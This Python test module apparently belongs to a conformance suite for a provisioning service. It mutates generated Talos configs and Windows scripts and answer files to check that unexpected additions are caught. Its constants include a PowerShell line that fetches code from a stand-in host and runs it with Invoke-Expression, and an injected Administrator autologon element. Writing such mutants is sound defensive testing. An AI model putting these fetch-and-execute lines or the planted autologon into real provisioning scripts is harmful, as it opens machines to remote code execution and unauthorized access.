"""Mutants that add what no field of a decoder's state can hold, in machine configurations and scripts for Windows."""

from collections.abc import Callable, Iterator, Sequence
from typing import Any

import yaml

from slipway.provisioners.windows.provisioner import WindowsProvisioner
from slipway.v1alpha1 import provisioner_service_pb2 as provisionerpb
from tests.services.conformance.bent import Bent, Request, Response
from tests.services.conformance.mutants.bending import answered
from tests.services.conformance.mutants.control_plane import NewestTalos
from tests.services.conformance.mutants.mutant import Mutant

_CORE = ("RND-018.core-items",)
_CALL_HOME = b"Invoke-WebRequest -UseBasicParsing -Uri 'https://home.example.net/' | Invoke-Expression\n"
_FUNCTION = b"function Get-Upkeep {\nInvoke-WebRequest -Uri 'https://home.example.net/'\n}\n"
_END = b"</component></settings></unattend>"
_LOGON = b"<AutoLogon><Enabled>true</Enabled><Username>Administrator</Username></AutoLogon>"


class CloudbaseInit(WindowsProvisioner):
    """The first of two formats."""

    def formats(self) -> Sequence[provisionerpb.FormatInfo]:
        return super().formats()[:1]


class Unattend(WindowsProvisioner):
    """The second one."""

    def formats(self) -> Sequence[provisionerpb.FormatInfo]:
        return super().formats()[1:]


def mutants() -> Iterator[Mutant]:
    """Give them."""
    yield Mutant("a rule for devices", _CORE, _talos(_rule))
    yield Mutant("the API of the machine open to pods", _CORE, _talos(_open_api))
    yield Mutant("a variable of the environment", _CORE, _talos(_variable))
    yield Mutant("a document of its own", _CORE, _talos(_service))
    yield Mutant("a statement of its own", _CORE, _script(_before_the_start(_CALL_HOME)))
    yield Mutant("a function of its own", _CORE, _script(_before_the_start(_FUNCTION)))
    yield Mutant("a statement beside an answer file", _CORE, _beside(_before_the_start(_CALL_HOME)))
    yield Mutant("a logon of its own", _CORE, _answers(_logon))


def _talos(change: Callable[[list[dict[str, Any]]], object]) -> Bent:
    def after(_request: Request, response: Response) -> None:
        if response.user_data:
            documents = list(yaml.safe_load_all(response.user_data))
            change(documents)
            response.user_data = yaml.safe_dump_all(documents, sort_keys=False).encode()

    return answered(after, provisioner=NewestTalos)


def _rule(documents: list[dict[str, Any]]) -> None:
    documents[0]["machine"]["udev"] = {"rules": ['SUBSYSTEM=="block", RUN+="/bin/true"']}


def _open_api(documents: list[dict[str, Any]]) -> None:
    access = {"enabled": True, "allowedRoles": ["os:admin"], "allowedKubernetesNamespaces": ["default"]}
    documents[0]["machine"]["features"]["kubernetesTalosAPIAccess"] = access


def _variable(documents: list[dict[str, Any]]) -> None:
    documents.append({"apiVersion": "v1alpha1", "kind": "EnvironmentConfig", "variables": {"GRPC_TRACE": "all"}})


def _service(documents: list[dict[str, Any]]) -> None:
    documents.append({"apiVersion": "v1alpha1", "kind": "ExtensionServiceConfig", "name": "upkeep"})


def _script(change: Callable[[bytes], bytes]) -> Bent:
    def after(_request: Request, response: Response) -> None:
        if response.user_data:
            response.user_data = change(response.user_data)

    return answered(after, provisioner=CloudbaseInit)


def _answers(change: Callable[[bytes], bytes]) -> Bent:
    def after(_request: Request, response: Response) -> None:
        if response.user_data:
            response.user_data = change(response.user_data)

    return answered(after, provisioner=Unattend)


def _beside(change: Callable[[bytes], bytes]) -> Bent:
    def after(_request: Request, response: Response) -> None:
        for attachment in response.attachments:
            attachment.content = change(attachment.content)

    return answered(after, provisioner=Unattend)


def _before_the_start(text: bytes) -> Callable[[bytes], bytes]:
    return lambda script: script.replace(b"$code = Start-Entry", text + b"$code = Start-Entry")


def _logon(document: bytes) -> bytes:
    compact = b"".join(line.strip() for line in document.splitlines())
    return compact.replace(_END, _LOGON + _END)
